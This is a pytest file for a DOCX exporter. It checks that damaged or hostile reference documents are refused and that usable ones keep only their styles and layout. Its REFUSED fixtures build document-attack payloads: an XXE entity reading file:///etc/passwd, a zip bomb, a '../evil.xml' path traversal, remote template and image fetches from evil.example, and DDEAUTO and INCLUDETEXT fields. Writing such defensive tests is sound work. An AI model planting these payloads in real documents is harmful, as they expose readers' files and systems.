"""A user's reference document: the file gets its styles and layout, and nothing else."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from exporter.backends.base import Rendered
from exporter.backends.docx import BACKEND
from exporter.backends.docx.options import PATH, DocxOptions
from exporter.ooxml.names import NAMESPACES, RELATIONSHIPS, qname
from exporter.theme.files import ROOT, Theme
from tests.backends.documents import png, sample_document
from tests.backends.docx.opened import Opened, audit

Parts = dict[str, bytes]
Edit = Callable[[Parts], object]
OURS = (ROOT / PATH).read_bytes()
EMPTY_RELATIONSHIPS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
W = f'xmlns:w="{NAMESPACES["w"]}" xmlns:r="{NAMESPACES["r"]}"'


def edited(*edits: Edit, data: bytes = OURS) -> bytes:
    """A package after ``edits`` of its parts; the shipped reference document where no other is given."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    parts = {name: archive.read(name) for name in archive.namelist()}
    for edit in edits:
        edit(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def swap(part: str, old: str, new: str) -> Edit:
    """Other words in a part."""

    def edit(parts: Parts) -> None:
        assert old.encode() in parts[part]
        parts[part] = parts[part].replace(old.encode(), new.encode())

    return edit


def relate(part: str, kind: str, target: str, *, key: str = "rId77", outside: bool = False) -> Edit:
    """A further relationship of a part."""
    mode = ' TargetMode="External"' if outside else ""
    line = f'<Relationship Id="{key}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"{mode}/>'

    def edit(parts: Parts) -> None:
        folder, _, name = part.rpartition("/")
        item = f"{folder}/_rels/{name}.rels"
        found = parts.get(item, EMPTY_RELATIONSHIPS).replace(b'relationships"/>', b'relationships"></Relationships>')
        parts[item] = found.replace(b"</Relationships>", line.encode() + b"</Relationships>")

    return edit


def add(name: str, content: str | bytes, kind: str = "") -> Edit:
    """A further part, with its content type."""

    def edit(parts: Parts) -> None:
        parts[name] = content if isinstance(content, bytes) else content.encode()
        if kind:
            override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
            parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override.encode())

    return edit


def drop(kind: str) -> Edit:
    """Without a part and its relationship."""

    def edit(parts: Parts) -> None:
        del parts[f"word/{kind}.xml"]
        for item in ("[Content_Types].xml", "word/_rels/document.xml.rels"):
            parts[item] = re.sub(
                rb'<(Override|Relationship) [^>]*[/"]%s\.xml"[^>]*/>' % kind.encode(), b"", parts[item]
            )

    return edit


def headed(inside: str) -> tuple[Edit, ...]:
    """A header that holds ``inside``."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    drawing = " ".join(f'xmlns:{p}="{NAMESPACES[p]}"' for p in ("wp", "a", "pic", "v", "o"))
    return (
        add("word/header9.xml", f"<w:hdr {W} {drawing}><w:p>{inside}</w:p></w:hdr>", kind),
        relate("word/document.xml", "header", "header9.xml", key="rId9"),
        swap("word/document.xml", "<w:sectPr>", '<w:sectPr><w:headerReference w:type="default" r:id="rId9"/>'),
    )


def made_with(data: bytes) -> Rendered:
    """The sample document with this reference document."""
    return BACKEND.render(sample_document(), DocxOptions(reference="brand.docx"), Theme(files={PATH: data}))


def opened_with(data: bytes) -> Opened:
    """The same, opened."""
    made = made_with(data)
    assert made.data is not None, made.findings
    return Opened(made.data)


CODE = '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{}</w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
DOCTYPE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:styles'
OPEN_DOCUMENT = io.BytesIO()
with zipfile.ZipFile(OPEN_DOCUMENT, "w") as odt:
    odt.writestr("mimetype", "application/vnd.oasis.opendocument.text")
MAIN = "openxmlformats-officedocument.wordprocessingml.document.main+xml"
REFUSED = {
    "empty": (b"", "is not a DOCX file"),
    "page": (b"<html>", "is not a DOCX file"),
    "cut": (OURS[:4000], "is damaged"),
    "spoilt": (OURS[:3000] + b"\xff\xff\xff" + OURS[3003:], "is damaged"),
    "open document": (OPEN_DOCUMENT.getvalue(), "is an OpenDocument file"),
    "word 97": (b"\xd0\xcf\x11\xe0" + bytes(600), "is encrypted or a .doc of Word 97"),
    "macros": (edited(swap("[Content_Types].xml", MAIN, "ms-word.document.macroEnabled.main+xml")), "has macros"),
    "hidden macros": (
        edited(add("word/v.bin", b"x"), relate("word/document.xml", "vbaProject", "v.bin")),
        "has macros",
    ),
    "workbook": (edited(swap("[Content_Types].xml", MAIN, "spreadsheetml.sheet.main+xml")), "is not a Word document"),
    "strict": (
        edited(swap("word/document.xml", NAMESPACES["w"], "http://purl.oclc.org/ooxml/wordprocessingml/main")),
        "'Strict Open XML Document'",
    ),
    "bomb": (edited(add("word/styles.xml", b" " * (40 << 20))), "is too large when unpacked ('word/styles.xml')"),
    "document type": (edited(swap("word/styles.xml", "<w:styles", DOCTYPE)), "has a document type"),
    "broken part": (edited(add("word/styles.xml", "<w:styles")), "'word/styles.xml' is not well-formed"),
    "missing part": (edited(lambda parts: parts.pop("word/numbering.xml")), "it has no part 'word/numbering.xml'"),
    "list without number": (edited(swap("word/numbering.xml", 'w:numId="1"', 'w:numId="x"')), "a list has no number"),
    "part outside": (edited(add("../evil.xml", "<a/>")), "bad name '../evil.xml'"),
    "attached template": (
        edited(relate("word/settings.xml", "attachedTemplate", "https://evil.example/x.dotm", outside=True)),
        "fetches 'https://evil.example/x.dotm' (its attachedTemplate, of the part 'word/settings.xml')",
    ),
    "linked picture": (
        edited(relate("word/document.xml", "image", "file://server/x.png", outside=True)),
        "fetches 'file://server/x.png'",
    ),
    "embedded object": (
        edited(*headed(""), add("word/o.bin", b"x"), relate("word/header9.xml", "oleObject", "o.bin")),
        "has an embedded oleObject",
    ),
    "link to a file": (
        edited(*headed(""), relate("word/header9.xml", "hyperlink", "file:///etc/passwd", outside=True)),
        "has a link to 'file:///etc/passwd'",
    ),
    "chart": (edited(*headed(""), relate("word/header9.xml", "chart", "chart1.xml")), "has an embedded chart"),
    "field": (edited(*headed(CODE.format('DDE</w:instrText><w:instrText>AUTO c:\\\\x "a"'))), "field 'DDEAUTO'"),
    "simple field": (edited(*headed('<w:fldSimple w:instr="includetext x"/>')), "field 'INCLUDETEXT'"),
    "shape": (
        edited(*headed('<w:r><w:pict><v:shape><v:imagedata src="http://evil.example/x"/></v:shape></w:pict></w:r>')),
        "fetches 'http://evil.example/x'",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_of_no_use_is_an_error_that_says_why(name: str) -> None:
    """A damaged or hostile reference document makes no file, and one error names it, its fault and what to do."""
    data, why = REFUSED[name]
    made = made_with(data)
    assert made.data is None
    (finding,) = made.findings
    assert finding.code == "docx-reference"
    assert why in finding.message
    assert "brand.docx" in finding.message or "the part" in finding.message
    assert finding.hint


def german(parts: Parts) -> None:
    """Ids of styles as Word has them in German."""
    for name, other in (("Normal", "Standard"), ("Heading1", "berschrift1"), ("header", "Kopfzeile")):
        styles = parts["word/styles.xml"]
        for key in ("w:styleId", "w:basedOn w:val", "w:next w:val"):
            styles = styles.replace(f'{key}="{style_id_of(name)}"'.encode(), f'{key}="{other}"'.encode())
        parts["word/styles.xml"] = styles


def style_id_of(name: str) -> str:
    """The id of one of Word's own styles in English."""
    return name[:1].upper() + name[1:]


def lacking(*names: str) -> Edit:
    """Without some styles, by their ids."""

    def edit(parts: Parts) -> None:
        for name in names:
            style = rb'<w:style [^>]*w:styleId="%s".*?</w:style>' % name.encode()
            parts["word/styles.xml"] = re.sub(style, b"", parts["word/styles.xml"], flags=re.S)

    return edit


def brand() -> bytes:
    """Return python-docx's empty document: Letter paper, a thumbnail, 164 styles, no lists of ours."""
    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


USABLE = {
    "template": edited(swap("[Content_Types].xml", "document.main+xml", "template.main+xml")),
    "no lists": edited(drop("numbering")),
    "no styles": edited(drop("styles")),
    "no settings": edited(drop("settings")),
    "no section": edited(add("word/document.xml", f"<w:document {W}><w:body/></w:document>")),
    "no body": edited(add("word/document.xml", f"<w:document {W}/>")),
    "German": edited(german),
    "German with gaps": edited(lacking("FAQQuestion", "Card", "Heading2", "Footer"), german),
    "other kinds": edited(swap("word/styles.xml", 'w:type="character" w:styleId="Key"', 'w:styleId="Key"')),
    "lengths with units": edited(swap("word/styles.xml", 'w:left="340"', 'w:left="6mm"')),
    "notes in its settings": edited(
        swap("word/settings.xml", "<w:compat>", '<w:footnotePr><w:footnote w:id="-1"/></w:footnotePr><w:compat>')
    ),
    "python-docx": brand(),
}


@pytest.mark.parametrize("name", USABLE)
def test_what_word_can_open_can_be_used(name: str, tmp_path: Path) -> None:
    """Other languages, missing parts and styles, templates: the file is valid all the same."""
    made = made_with(USABLE[name])
    assert made.data is not None
    assert audit(made.data, tmp_path) == []
    assert {f.code for f in made.findings} <= {"docx-styles"}
    assert len(made.findings) <= 1


def test_only_looks_come_along() -> None:
    """Properties, previews, custom parts and the text with all that belongs to it stay behind."""
    spoken = edited(
        swap("docProps/core.xml", '"/>', '"><cp:category>Secret</cp:category></cp:coreProperties>'),
        add("customXml/item1.xml", "<secret/>"),
        relate("word/document.xml", "customXml", "../customXml/item1.xml"),
        swap("word/document.xml", "<w:sectPr>", "<w:p><w:r><w:t>Secret</w:t></w:r></w:p><w:sectPr>"),
        relate("word/document.xml", "hyperlink", "https://secret.example/", outside=True),
    )
    for reference in (spoken, brand()):
        opened = opened_with(reference)
        assert not [name for name, data in opened.files.items() if b"ecret" in data or b"python-docx" in data]
        assert not {"docProps/app.xml", "docProps/thumbnail.jpeg", "word/stylesWithEffects.xml"} & set(opened.names)


def test_headers_bring_pictures_and_links(tmp_path: Path) -> None:
    """A header's logo and link are there under names of ours, its bookmarks are not, and no number is there twice."""
    shape = '<wp:docPr id="1" name="Logo" descr="Brand"/><a:graphic><a:graphicData uri="x"/></a:graphic>'
    picture = f'<w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/>{shape}</wp:inline></w:drawing></w:r>'
    mark = '<w:bookmarkStart w:id="1" w:name="x_s0_0"/><w:bookmarkEnd w:id="1"/>'
    link = '<w:hyperlink r:id="rId8"><w:r><w:t>brand.example</w:t></w:r></w:hyperlink>'
    data = edited(
        *headed(mark + picture + link),
        add("word/media/picture1.png", png(), "image/png"),
        relate("word/header9.xml", "image", "media/picture1.png", key="rId7"),
        relate("word/header9.xml", "hyperlink", "https://brand.example/?a=1&amp;b=2", key="rId8", outside=True),
    )
    made = made_with(data)
    assert made.data is not None
    opened = Opened(made.data)
    assert opened.targets("word/header1.xml") == {
        "rId7": "media/reference1.png",
        "rId8": "https://brand.example/?a=1&b=2",
    }
    assert opened.files["word/media/reference1.png"] == png()
    assert not opened.find("//w:bookmarkStart", "word/header1.xml")
    assert [fault for fault in audit(made.data, tmp_path) if "twice" in fault or "times" in fault] == []


def test_headers_of_earlier_sections_count(tmp_path: Path) -> None:
    """Word lets a section without headers have those of the one before it."""
    first = '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rId9"/></w:sectPr></w:pPr></w:p>'
    edits = headed("<w:r><w:t>Brand Inc.</w:t></w:r>")[:2]
    opened = opened_with(edited(*edits, swap("word/document.xml", "<w:sectPr>", f"{first}<w:sectPr>")))
    assert b"Brand Inc." in opened.files["word/header1.xml"]


def test_style_of_words_in_the_way_of_one_of_paragraphs() -> None:
    """A style of words called as ours of paragraphs steps aside under another name; both are in the file."""
    as_words = 'w:type="character" w:styleId="Card"'
    data = edited(swap("word/styles.xml", 'w:type="paragraph" w:styleId="Card"', as_words))
    opened = opened_with(data)
    names = opened.find("//w:style/w:name/@w:val", "word/styles.xml")
    assert {"Card", "Card (character)"} <= set(names)
    assert len(names) == len(set(names))


def test_questions_keep_their_sign_without_its_list() -> None:
    """Where the list of the question style is gone, questions get a new one of their own."""
    opened = opened_with(USABLE["no lists"])
    (number,) = opened.find("//w:style[@w:styleId='FAQQuestion']//w:numId/@w:val", "word/styles.xml")
    (kind,) = opened.find(f"//w:num[@w:numId='{number}']/w:abstractNumId/@w:val", "word/numbering.xml")
    assert opened.find(f"//w:abstractNum[@w:abstractNumId='{kind}']//w:lvlText/@w:val", "word/numbering.xml") == ["Q."]


def test_an_edited_template_changes_the_file() -> None:
    """The default document with another colour of headings, given back as ``docx.reference``, shows that colour."""
    archive = docx.Document(io.BytesIO(OURS))
    archive.styles["Heading 1"].font.color.rgb = docx.shared.RGBColor(0x12, 0x34, 0x56)
    out = io.BytesIO()
    archive.save(out)
    made = made_with(out.getvalue())
    assert made.findings == ()
    assert made.data is not None
    found = Opened(made.data).find("//w:style[w:name/@w:val='heading 1']//w:color", "word/styles.xml")
    assert [e.get(qname("w:val")) for e in found] == ["123456"]
